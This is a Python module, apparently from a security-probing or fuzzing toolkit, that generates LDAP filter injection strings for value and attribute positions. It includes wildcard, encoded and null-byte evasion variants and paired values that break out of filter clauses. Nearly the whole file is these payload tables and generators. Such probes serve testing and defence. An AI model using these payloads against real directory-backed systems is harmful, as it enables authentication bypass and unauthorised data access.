"""Texts that leave the place of a value, or of an attribute, in an LDAP filter (RFC 4515)."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from probes.grammars import evasions, placeholders
from probes.grammars.ranked import in_turn

#: Around a comparison that an attacker adds: V is an ordinary value, @ the comparison. First those within the filter.
_ADDED = (
    "V*)(@",
    "*)(@",
    "V)(@",
    "*)(|(@)",
    "*)(|(@",
    "*)(!(@)",
    "V*)(|(@)(x=",
    "*))(|(@",
    "*)(@))(|(x=*",
    "x)(x=*))(|(@",
    "*)@)(x=",
    "*))) (|(@",
    "V*)(@)(x=*",
    "x*)(x=y))(&(@",
    "*)(objectclass=*)(@",
    "x)(!(x=x))(@",
    "V* )( @",
    "*)\n(@",
    "V))(@",
    "x))(|(@)",
    "x)(x=x)))(|(|(@)",
    "V)(|(@)",
    "x)(|(@)",
    "*))(&(|(x=*)(@",
    "*)))(|(|(@",
    "V*)(@)\0",
    "*)(@))\0",
)
_STARS = (
    *("*", "V*", "*V", "**", "\\2a", "* ", " *", "V\\2a"),
    *("%2a", "\uff0a", "&#42;", "\\5c2a", "\\*", "*\0", "\\\\2a"),
)
#: Other spellings of the signs, which a later step reads as such.
_SPELLED = (
    {"(": "\uff08", ")": "\uff09", "*": "\uff0a"},
    {"(": "%28", ")": "%29", "*": "%2a"},
    {"(": "&#40;", ")": "&#41;", "*": "&#42;"},
    {"(": "\\(", ")": "\\)", "*": "\\*"},
    {"(": "\\28", ")": "\\29", "*": "\\2a"},
    {"(": "\\\\(", ")": "\\\\)", "*": "\\\\*"},
)


def texts(ordinary: str, comparisons: Sequence[str]) -> Iterator[str]:
    """Texts for the place of a value; `comparisons` are those that an attacker adds: `pin=4*`, `status=left`."""
    added = [form.replace("V", ordinary).replace("@", one) for form in _ADDED for one in comparisons[:1]]
    yield from in_turn(
        added,
        (star.replace("V", ordinary[:-1]) for star in _STARS),
        (form.replace("V", ordinary).replace("@", one) for one in comparisons[1:] for form in _ADDED),
        ("".join(signs.get(sign, sign) for sign in text) for text in added[:4] for signs in _SPELLED),
        (other for text in (added[0], "*", added[1]) for other in evasions.evading(text)),
        (f"{'x' * (size - short)}{text}" for size in evasions.lengths()[-2:] for short in (0, 1) for text in added[:2]),
        # The first of each sign may be the only one that is escaped.
        (f")(*{text}" for text in added[:3]),
        (ordinary[:-1] + sign for sign in ("?", "%", "_", ".")),
        _coded(ordinary),
        placeholders.own(),
    )


def _coded(ordinary: str) -> Iterator[str]:
    """The value with codes in place of signs, for those who leave a backslash that seems to escape already."""
    codes = [f"\\{ord(sign):02x}" for sign in ordinary]
    yield from (codes[0] + ordinary[1:], "".join(codes), ordinary[:-1] + codes[-1].upper())


def lists(ordinary: str, comparisons: Sequence[str]) -> Iterator[list[str]]:
    """Values of one list, one of them hostile or two of them together."""
    for text in texts(ordinary, comparisons):
        yield from ([text], ["x", text], [text, "x"])
        yield ["x)", f"({comparisons[0]}"]
    yield ["\\", f")({comparisons[0]}"]


def pairs(ordinary: str, comparisons: Sequence[str]) -> Iterator[tuple[str, str]]:
    """Two values of one filter that leave their places together; the first is like an `ordinary` one.

    What the first opens makes of the second one choice among several.
    """
    for one in comparisons:
        for opened in (f"{ordinary})(|(x=x", f"{ordinary})(!(x=x", "*)(|(x=x", "x)(|(x=x"):
            yield from ((opened, f"x)({one})"), (opened, f"x)({one}"), (opened, "x)"), (opened, f"x))(|({one}"))
    yield from (("*", "*"), (f"{ordinary}\\", f"29({comparisons[0]}"), (f"{ordinary})(|(x=x", "*)"))


def attributes(usual: Sequence[str], hidden: Sequence[str]) -> Iterator[str]:
    """Texts for the place of an attribute; `hidden` are those that no right program compares."""
    for one in hidden:
        yield from (one, one.upper(), f" {one}", f"{one} ", f"{one}\n", one.capitalize())
        for other in usual:
            yield from (f"{other}=*)({one}", f"{other})({one}", f"|({one}", f"{other}\n=*)({one}")
            yield f"{other}=*)(|({one}"
            yield from (f"{other},{one}", f"{other}=x)(!({other}=x))({one}", f"{other}=*)({one}=*4*)({other}")
        yield from evasions.evading(one)
